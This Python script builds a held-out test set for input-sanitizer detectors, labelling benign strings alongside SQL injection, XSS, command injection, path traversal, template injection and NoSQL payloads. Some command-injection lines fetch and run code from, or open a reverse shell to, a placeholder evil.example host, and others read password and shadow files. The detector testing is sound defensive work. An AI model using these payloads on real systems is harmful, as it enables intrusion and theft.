#!/usr/bin/env python3
"""A small held-out set, written after the detectors were tuned on generate.py's corpus and never
used for tuning: hand-written attack variants in shapes the generator does not produce, and
benign values of kinds it does not produce. Its numbers are reported, not asserted (see
docs/sanitizer.md): it estimates how far the tuned detectors generalise."""
import json

attacks = {
    "sqli": [
        "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
        "x' AnD 1=0 UnIoN/**/SeLeCt table_name FROM information_schema.tables#",
        "') OR ('x')=('x",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM users GROUP BY x)a)",
        "1'||(SELECT CASE WHEN 1=1 THEN pg_sleep(3) ELSE pg_sleep(0) END)||'",
        "-5 OR 5=5",
        "admin\")-- -",
        "1;EXEC xp_cmdshell('dir')",
        "' HAVING 1=1 --",
        "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x",
    ],
    "xss": [
        "<sCrIpT/x>alert(1)</ScRiPt>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">click</a>",
        "<img src=1 onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
        "\"><iframe srcdoc=\"<script>alert(1)</script>\">",
        "<marquee onstart=alert(1)>x</marquee>",
        "'-prompt(1)-'",
        "<form action=javascript:alert(1)><input type=submit>",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<body/onpageshow=alert(1)>",
    ],
    "cmdi": [
        "a.txt; /usr/bin/id",
        "$(whoami)",
        "x || ping -n 5 127.0.0.1",
        "`uname -a`",
        "file.png\nwget http://evil.example/b -O- | sh",
        "127.0.0.1 | net user",
        "&& c\\u\\r\\l http://evil.example",
        "; nc evil.example 9001 -e /bin/bash",
        "x%0Aid",
        "|| certutil -urlcache -f http://evil.example/p.exe p.exe",
    ],
    "traversal": [
        "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
        "....\\\\....\\\\boot.ini",
        "/var/www/../../etc/shadow",
        "..%u2216..%u2216secret.txt",
        "file:///c:/windows/win.ini",
        "../../../../proc/self/environ",
        "..%252f..%252f..%252fetc%252fhosts",
        "php://input",
        "/static/..%c0%af..%c0%afetc/passwd",
    ],
    "ssti": [
        "{{ 9*9 }}",
        "${{ 3*3 }}",
        "{{ request['application']['__globals__'] }}",
        "<%= system('id') %>",
        "#{ 5 * 5 }",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
        "${ new java.lang.ProcessBuilder('id').start() }",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "@(1+2)",
        "[[${7*7}]]",
    ],
}
nosql_json = [
    {"login": {"$gt": ""}},
    {"user": "a", "$where": "sleep(1000)"},
    {"filter": {"price": {"$lte": 0}}},
    {"q": {"name": {"$regex": "^a"}}},
    {"id": {"$nin": [1]}},
]
benign = [
    "What's the difference between a latte and a flat white?",
    "Meet me at 5 o'clock — Door #3; bring the ID card.",
    "x = (a + b) * c / 2; y = x % 3",
    "Ünïcödé tëst: ñ, ç, ß, ø, å, ł, ž",
    "她说：“这个产品很好用！”",
    "Reset password for jane.o'hara@example.co.uk",
    "Price range: 10-20 EUR | free shipping",
    "C:\\Users\\Public\\Documents\\invoice-2024.pdf",
    "SELECT is my favourite store brand; union workers shop there too.",
    "I'd rate it 4/5 — the 'eco' mode isn't great.",
    "Please cancel order 5512 and refund to card ending 4242.",
    "```bash\nnpm run build && npm run deploy\n```",
    "Follow up at https://support.example.com/tickets/8812?lang=fr&view=full",
    "<3 this shop",
    "Temperature: -5°C to +3°C; wind 20 km/h",
    "Ingredients: flour, sugar, eggs & butter (room temp.)",
    "Re: your question about \"insert mode\" in vim",
    "The ../ in the path is a relative link in our docs",
    "Hello {{customer_name}}, thanks for your order!",
    "Use ${HOME}/.config for settings",
    "Call me on +1 (555) 010-9999 ext. 42",
    "Rüdiger's Bäckerei, Hauptstraße 5, 10115 Berlin",
    "Can I pay with Apple Pay or PayPal?",
    "The item arrived; cat loves the new bed!",
    "Order total: $45.00 (incl. $5.00 shipping) = paid",
]
with open("holdout.jsonl", "w", encoding="utf-8") as f:
    for label, items in attacks.items():
        for p in items:
            f.write(json.dumps({"label": label, "kind": "query", "payload": p}, ensure_ascii=False) + "\n")
    for d in nosql_json:
        f.write(json.dumps({"label": "nosql", "kind": "json", "payload": json.dumps(d)}) + "\n")
    for p in benign:
        f.write(json.dumps({"label": "benign", "kind": "query", "payload": p}, ensure_ascii=False) + "\n")
        f.write(json.dumps({"label": "benign", "kind": "json", "payload": json.dumps({"text": p}, ensure_ascii=False)}, ensure_ascii=False) + "\n")
